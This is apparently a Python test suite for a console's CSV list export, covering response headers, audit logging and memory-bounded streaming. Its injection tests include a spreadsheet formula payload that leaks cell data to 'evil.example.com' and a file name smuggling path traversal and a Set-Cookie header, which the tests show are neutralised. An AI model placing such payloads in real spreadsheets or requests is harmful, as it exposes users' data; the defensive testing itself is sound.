"""Lists as CSV: the rows of the page, safe to open in a spreadsheet, and however many without holding them all."""

from __future__ import annotations

import csv
import io
import os
import tracemalloc
from typing import Any

import pytest
from sqlalchemy.orm import Session

from console import spreadsheets
from console.spreadsheets import cell, file_name, lines
from store import segments
from store.lists import messages as lists
from store.lists import paging
from store.lists.messages import MessageFilter
from store.tables import Audit
from tests.console.desk import Desk
from tests.console.stored import customer_id, write_message, write_task
from tests.intake.house import START
from tests.store.many import fill
from tests.store.rows import at


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


async def test_a_list_is_given_as_a_file_with_the_rows_that_are_asked_for(desk: Desk) -> None:
    for number in range(1, 61):
        write_message(desk, number, template="a/b" if number % 2 else "c/d")
    answer = await desk.get("/messages?template=c%2Fd&format=csv", "viewer")
    assert answer.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert answer.headers["content-disposition"] == 'attachment; filename="milepost-messages-2026-03-02.csv"'
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"
    assert not answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.content.startswith(b"id,state,channel,")
    assert answer.content.count(b"\r\n") == 31
    found = rows(answer.content)
    assert [row["id"] for row in found] == [f"m{number}" for number in range(60, 0, -2)]
    assert found[0]["due_at"] == "2026-03-02T09:01:00Z"
    assert found[0]["customer"] == "ada"


async def test_what_a_customer_wrote_is_no_formula(desk: Desk) -> None:
    formula = '=HYPERLINK("https://evil.example.com?"&A1,"click")'
    write_message(desk, user="+ada", subject=formula, recipient="@sum(1)", template='a",\r\n=b')
    answer = await desk.get("/messages?format=csv")
    (found,) = rows(answer.content)
    assert found["subject"] == f"'{formula}"
    assert (found["customer"], found["to"], found["template"]) == ("'+ada", "'@sum(1)", 'a",\r\n=b')


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell(f"a{start}") == f"a{start}"


def test_numbers_and_instants_and_what_is_not_there_are_plain() -> None:
    assert [cell(one) for one in (-5, 2.5, None, True, START, "", {"a": "é"})] == [
        "-5", "2.5", "", "yes", "2026-03-02T09:00:00Z", "", '{"a": "é"}',
    ]  # fmt: skip


def test_the_name_of_a_file_is_safe_whatever_is_in_it() -> None:
    assert (
        file_name('segment-x"; filename="../../evil.exe\r\nSet-Cookie: a') == "segment-x-filename-evil-exe-set-cookie-a"
    )
    assert file_name("…") == "list"
    assert len(file_name("x" * 500)) == 60


async def test_every_list_is_given_as_a_file_also_an_empty_one(desk: Desk) -> None:
    places = ("/messages", "/outbox", "/tasks", "/events", "/audit", "/segments/fans")
    for place in places:
        empty = await desk.get(f"{place}?format=csv&customer=nobody&who=nobody", "viewer")
        assert (empty.status_code, empty.content.count(b"\r\n")) == (200, 1), place
    write_message(desk)
    write_task(desk, 2)
    desk.house.track("alpha", user="grace")
    desk.house.write(lambda session: segments.change(session, customer_id(desk, "grace"), {"fans": True}, START))
    for place in places:
        full = await desk.get(f"{place}?format=csv", "viewer")
        found = [row for row in rows(full.content) if row.get("what") != "list saved"]
        assert len(found) == (2 if place == "/audit" else 1), place  # who was made, and came


def saved(desk: Desk) -> list[tuple[str, str, dict[str, Any] | None]]:
    return [(one.who, one.target, one.data) for one in desk.house.rows(Audit) if one.what == "list saved"]


async def test_who_saves_a_list_is_in_the_audit_log_and_nothing_of_what_is_in_it(desk: Desk) -> None:
    write_message(desk, user="ada@example.com", subject="Only for Ada", recipient="ada@example.com")
    await desk.get("/messages?state=accepted&channel=email&from=2026-03-01&template=ada%40example.com", "viewer")
    assert saved(desk) == []
    await desk.get(
        "/messages?state=accepted&channel=email&from=2026-03-01&template=ada%40example.com&format=csv", "viewer"
    )
    await desk.get("/messages?customer=ada%40example.com&format=csv", "support")
    await desk.get("/audit?target=ada%40example.com&who=user:ada@example.com&format=csv", "viewer")
    ada = customer_id(desk, "ada@example.com")
    filters = {"state": "accepted", "channel": "email", "from": "2026-03-01", "template": "given"}
    assert saved(desk) == [
        ("user:viewer", "messages", {"list": "messages", "filters": filters, "rows": 0}),
        ("user:support", ada, {"list": "messages", "filters": {"customer": "given"}, "rows": 1}),
        ("user:viewer", ada, {"list": "audit-log", "filters": {"target": "given", "who": "given"}, "rows": 0}),
    ]
    assert "example.com" not in str(saved(desk))


async def test_a_list_that_is_long_is_logged_without_its_length(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "ROWS", 3)
    for number in range(1, 5):
        write_message(desk, number)
    assert len(rows((await desk.get("/messages?format=csv")).content)) == 4
    assert [data for _, _, data in saved(desk)] == [{"list": "messages"}]


async def test_nothing_goes_out_where_the_log_cannot_be_written(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("the log cannot be written")

    write_message(desk, subject="Only for Ada")
    monkeypatch.setattr(spreadsheets, "list_saved", broken)
    answer = await desk.get("/messages?format=csv")
    assert (answer.status_code, "Only for Ada" in answer.text) == (500, False)


FEW, MANY = 4_000, 100_000 if os.environ.get("MILEPOST_TEST_CHAOS") == "full" else 20_000


async def test_many_rows_take_no_more_memory_than_few(desk: Desk) -> None:
    desk.house.write(lambda session: fill(session, MANY, only_messages=True))
    database = desk.house.database

    async def size(wanted: MessageFilter) -> tuple[int, int]:
        """How many rows there are, and the most bytes that their lines held at once."""
        number = 0

        def fetch(session: Session, cursor: paging.Cursor | None, limit: int) -> paging.Page[Any]:
            return lists.listed(session, wanted, cursor, limit)

        first = await database.read(lambda session: fetch(session, None, spreadsheets.ROWS))
        tracemalloc.start()
        try:
            async for piece in lines(database, ["id"], first, fetch, tuple):
                number += piece.count(b"\r\n")
            return number - 1, tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    _, few = await size(MessageFilter(until=at(FEW / 3600)))
    number, many = await size(MessageFilter())
    assert number == MANY
    assert many < 1.3 * few, f"{few / 2**20:.1f} MB for {FEW}, {many / 2**20:.1f} MB for {MANY}"


async def test_no_query_reads_more_than_a_thousand_rows(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "ROWS", 7)
    asked: list[int] = []
    listed = lists.listed

    def counting(session: object, wanted: object, cursor: object, limit: int) -> object:
        asked.append(limit)
        return listed(session, wanted, cursor, limit)  # type: ignore[arg-type]

    monkeypatch.setattr(lists, "listed", counting)
    for number in range(1, 31):
        write_message(desk, number)
    answer = await desk.get("/messages?format=csv")
    assert [row["id"] for row in rows(answer.content)] == [f"m{number}" for number in range(30, 0, -1)]
    assert asked == [7] * 5


async def test_what_is_rare_is_looked_for_to_the_end(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(paging, "LOOK", 5)
    for number in range(1, 31):
        write_message(desk, number, template="rare" if number in (2, 20) else "a/b")
    answer = await desk.get("/messages?template=rare&format=csv")
    assert [row["id"] for row in rows(answer.content)] == ["m20", "m2"]
    page = (await desk.get("/messages?template=rare")).text
    assert "further on there may be more" in page
    assert "Look further" in page
